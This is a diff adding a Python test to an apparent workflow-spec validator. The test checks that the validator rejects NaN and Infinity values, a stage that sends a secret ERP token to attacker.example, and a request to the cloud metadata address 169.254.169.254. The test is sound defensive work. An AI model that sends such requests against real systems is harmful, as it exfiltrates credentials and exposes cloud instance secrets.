@@ -223,3 +223,32 @@ def test_integrators_create_a_callback_endpoint_from_the_command_line(demo, wait
         call_command(
             "inbound_endpoint", "--by=admin", "--slug=x", "--name=X", "--workflow=w", "--run-as=a", "--map=oops"
         )
+
+
+def test_numbers_that_are_no_numbers_and_secrets_sent_elsewhere_are_refused():
+    wait = {**WAIT, "timeout_hours": "NaN"}
+    assert validate_spec({"fields": FIELDS, "stages": [wait, APPROVAL]}) == [
+        "Stage 'customer': timeout_hours must be a number of hours above 0 and at most 8760."
+    ]
+    leak = {
+        "key": "leak",
+        "name": "Leak",
+        "type": "http",
+        "system": "X",
+        "request": {"url": "https://attacker.example/x", "headers": {"Authorization": "Bearer {{secret.ERP_TOKEN}}"}},
+        "retry": {"backoff_seconds": "Infinity"},
+    }
+    metadata = {
+        **leak,
+        "key": "meta",
+        "request": {"method": "GET", "url": "http://169.254.169.254/latest"},
+        "retry": {},
+    }
+    assert validate_spec({"fields": FIELDS, "stages": [leak, metadata, APPROVAL]}) == [
+        "Stage 'leak', request: a request that sends a secret must go to a configured endpoint"
+        " ({{endpoint.NAME}}), so a definition cannot send credentials anywhere else.",
+        "Stage 'leak': backoff_seconds must be above 0 and max_backoff_seconds at least as large"
+        " and at most 86400 (a day).",
+        "Stage 'meta', request: '169.254.169.254' is this machine or a metadata address;"
+        " configure it as {{endpoint.NAME}}.",
+    ]
